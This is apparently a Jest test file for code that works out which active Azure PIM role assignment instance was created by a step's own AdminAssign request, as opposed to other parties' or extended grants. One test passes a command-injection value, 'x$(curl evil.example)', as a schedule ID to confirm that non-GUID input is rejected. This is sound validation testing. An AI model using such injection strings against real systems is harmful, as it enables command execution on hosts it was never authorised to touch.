// Which active PIM instance is the post step's own: the one whose schedule its AdminAssign request
// created, never one that only shares principal, role and scope.
import { describe, expect, it } from '@jest/globals';
import type {
  RoleAssignmentSchedule,
  RoleAssignmentScheduleInstance,
  RoleAssignmentScheduleRequest,
} from '@azure/arm-authorization';
import { activeNow, guidAtEnd } from '../../../src/azure/pim/own-instance.js';
import { parseAzureScope, type AzureScope } from '../../../src/core/azure-scope.js';
import type { AzureResolvedIds } from '../../../src/core/types.js';

const SUB = '/subscriptions/dfa2a084-766f-4003-8ae1-c4aeb893a99f';
const READER = 'acdd72a7-3385-48ef-bd42-f606fba81ae7';
const CONTRIBUTOR = 'b24988ac-6180-42a0-ab88-20f7382dd24c';
const PRINCIPAL = 'ce2ce14e-85d7-4629-bdbc-454d0519d987';
const PROVIDER = '/providers/Microsoft.Authorization';
const roleId = (guid: string) => `${SUB}${PROVIDER}/roleDefinitions/${guid}`;

/** This step's AdminAssign request, and the schedule it created. */
const OWN_REQUEST = '6f0c2a4e-1b3d-4c5e-8f7a-9b0c1d2e3f40';
const OWN_SCHEDULE = '2b4d6f80-a1c3-4e5f-9a7b-c9d1e3f5a7b9';
/** Another party's schedule of the same principal, role and scope. */
const OTHER_SCHEDULE = '8e7d6c5b-4a39-4281-9f0e-1d2c3b4a5968';
const OTHER_REQUEST = '0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d';

const ids: AzureResolvedIds = {
  cloud: 'azure',
  principalId: PRINCIPAL,
  scope: parseAzureScope(SUB) as AzureScope,
  roleId: roleId(READER),
  name: OWN_REQUEST,
};
const of = { scope: SUB, principalId: PRINCIPAL, roleDefinitionId: roleId(READER), memberType: 'Direct' };

const request: RoleAssignmentScheduleRequest = {
  ...of,
  requestType: 'AdminAssign',
  // A bare GUID, as in the swagger examples.
  targetRoleAssignmentScheduleId: OWN_SCHEDULE,
};
const schedule = (name: string, requestName: string | undefined): RoleAssignmentSchedule => ({
  ...of,
  name,
  id: `${SUB}${PROVIDER}/RoleAssignmentSchedules/${name}`,
  ...(requestName
    ? { roleAssignmentScheduleRequestId: `${SUB}${PROVIDER}/RoleAssignmentScheduleRequests/${requestName}` }
    : {}),
});
const instance = (
  scheduleName: string,
  extra: Partial<RoleAssignmentScheduleInstance> = {},
): RoleAssignmentScheduleInstance => ({
  ...of,
  roleAssignmentScheduleId: `${SUB}${PROVIDER}/RoleAssignmentSchedules/${scheduleName}`,
  ...extra,
});

describe("the post step's own instance is the one its request created", () => {
  it("is found by the schedule its request names as the target, whatever the ID's form and case", () => {
    const own = instance(OWN_SCHEDULE.toUpperCase());
    expect(activeNow(ids, OWN_REQUEST, request, [], [own])).toEqual({ own, othersShown: false });
  });

  it("takes ARM's MemberType in any case (an extensible enum), and never one held through a group", () => {
    const own = instance(OWN_SCHEDULE, { memberType: 'direct' });
    expect(activeNow(ids, OWN_REQUEST, request, [], [own]).own).toBe(own);
    const throughGroup = instance(OWN_SCHEDULE, { memberType: 'group' });
    expect(activeNow(ids, OWN_REQUEST, request, [], [throughGroup]).own).toBeUndefined();
  });

  it('is not active once its end time has passed, even when a read still lists it (a stale read)', () => {
    const now = Date.parse('2026-11-24T12:00:00Z');
    const ended = instance(OWN_SCHEDULE, { endDateTime: new Date(now - 1) });
    expect(activeNow(ids, OWN_REQUEST, request, [], [ended], now).own).toBeUndefined();
    const running = instance(OWN_SCHEDULE, { endDateTime: new Date(now + 60_000) });
    expect(activeNow(ids, OWN_REQUEST, request, [], [running], now).own).toBe(running);
  });

  it('is found by the schedule that names its request as the origin, when the request cannot be read', () => {
    const own = instance(OWN_SCHEDULE);
    expect(activeNow(ids, OWN_REQUEST, undefined, [schedule(OWN_SCHEDULE, OWN_REQUEST)], [own])).toEqual({
      own,
      othersShown: false,
    });
  });

  it('is not found when nothing is shown: an assignment that reads do not show is never taken for it', () => {
    expect(activeNow(ids, OWN_REQUEST, request, [], [])).toEqual({ othersShown: false });
  });

  it("is not found in another request's instance of the same principal, role and scope, which is shown as someone else's", () => {
    const shown = activeNow(
      ids,
      OWN_REQUEST,
      request,
      [schedule(OTHER_SCHEDULE, OTHER_REQUEST)],
      [instance(OTHER_SCHEDULE)],
    );
    expect(shown).toEqual({ othersShown: true });
  });

  it("is not found in a permanent assignment made outside PIM (a schedule without a request), which is someone else's", () => {
    const shown = activeNow(ids, OWN_REQUEST, undefined, [schedule(OTHER_SCHEDULE, undefined)], []);
    expect(shown).toEqual({ othersShown: true });
  });

  it("says when another party's schedule is shown beside its own", () => {
    const own = instance(OWN_SCHEDULE);
    const shown = activeNow(
      ids,
      OWN_REQUEST,
      request,
      [schedule(OWN_SCHEDULE, OWN_REQUEST), schedule(OTHER_SCHEDULE, OTHER_REQUEST)],
      [own],
    );
    expect(shown).toEqual({ own, othersShown: true });
  });

  it('ignores what is not this grant: inherited, another role, another principal, another scope', () => {
    const shown = activeNow(
      ids,
      OWN_REQUEST,
      request,
      [],
      [
        instance(OTHER_SCHEDULE, { memberType: 'Inherited' }),
        instance(OTHER_SCHEDULE, { roleDefinitionId: roleId(CONTRIBUTOR) }),
        instance(OTHER_SCHEDULE, { principalId: '11111111-2222-4333-8444-555555555555' }),
        instance(OTHER_SCHEDULE, { scope: `${SUB}/resourceGroups/rg-app` }),
      ],
    );
    expect(shown).toEqual({ othersShown: false });
  });

  it('takes no schedule from a request target that is not a GUID', () => {
    const shown = activeNow(
      ids,
      OWN_REQUEST,
      { ...request, targetRoleAssignmentScheduleId: 'x$(curl evil.example)' },
      [],
      [instance(OWN_SCHEDULE)],
    );
    expect(shown).toEqual({ othersShown: true });
  });
});

describe("an own instance whose end an administrator extended (AdminExtend, AdminUpdate keep the schedule and its request) is not the step's", () => {
  const start = Date.parse('2026-11-24T12:00:00Z');
  const HOUR = 3_600_000;
  const asked = (expiration: NonNullable<RoleAssignmentScheduleRequest['scheduleInfo']>['expiration']) => ({
    ...request,
    scheduleInfo: { startDateTime: new Date(start), expiration },
  });
  const forTwoHours = asked({ type: 'AfterDuration', duration: 'PT2H' });
  const endingAt = (ms: number | undefined) =>
    instance(OWN_SCHEDULE, ms === undefined ? {} : { endDateTime: new Date(ms) });
  const shown = (req: RoleAssignmentScheduleRequest, own: RoleAssignmentScheduleInstance) =>
    activeNow(ids, OWN_REQUEST, req, [schedule(OWN_SCHEDULE, OWN_REQUEST)], [own], start);

  it("is its own while it ends when its request asked, or within five minutes after (start times are the service's)", () => {
    const own = endingAt(start + 2 * HOUR + 4 * 60_000);
    expect(shown(forTwoHours, own)).toEqual({ own, othersShown: false });
    const sooner = endingAt(start + HOUR);
    expect(shown(forTwoHours, sooner)).toEqual({ own: sooner, othersShown: false });
  });

  it("is shown as someone else's once it ends later than its request asked (startDateTime + duration), saying why", () => {
    const shownNow = shown(forTwoHours, endingAt(start + 10 * HOUR));
    expect(shownNow).toEqual({
      othersShown: true,
      extended: expect.stringContaining('2026-11-24T22:00:00.000Z'),
    });
    expect(shownNow.extended).toContain('2026-11-24T14:00:00.000Z');
  });

  it('reads an endDateTime the request asked for too', () => {
    const until = asked({ type: 'AfterDateTime', endDateTime: new Date(start + HOUR) });
    expect(shown(until, endingAt(start + 3 * HOUR)).othersShown).toBe(true);
    expect(shown(until, endingAt(start + HOUR)).othersShown).toBe(false);
  });

  it("is someone else's when it has no end though its request asked for one (made permanent)", () => {
    const shownNow = shown(forTwoHours, endingAt(undefined));
    expect(shownNow).toEqual({ othersShown: true, extended: expect.stringContaining('now has no end') });
  });

  it('stays its own when its request asked for no end, or when what it asked cannot be read', () => {
    const permanent = endingAt(undefined);
    expect(shown(asked({ type: 'NoExpiration' }), permanent).own).toBe(permanent);
    const unread = endingAt(start + 10 * HOUR);
    expect(shown(asked({ type: 'AfterDuration', duration: 'soon' }), unread).own).toBe(unread);
    expect(shown(request, unread).own).toBe(unread);
  });
});

describe('guidAtEnd', () => {
  it('reads the GUID that ends a full ID or a bare GUID, lower case, and nothing else', () => {
    expect(guidAtEnd(`${SUB}${PROVIDER}/RoleAssignmentSchedules/${OWN_SCHEDULE.toUpperCase()}`)).toBe(
      OWN_SCHEDULE,
    );
    expect(guidAtEnd(OWN_SCHEDULE)).toBe(OWN_SCHEDULE);
    expect(guidAtEnd(`${SUB}${PROVIDER}/RoleAssignmentSchedules/not-a-guid`)).toBeUndefined();
    expect(guidAtEnd(undefined)).toBeUndefined();
  });
});
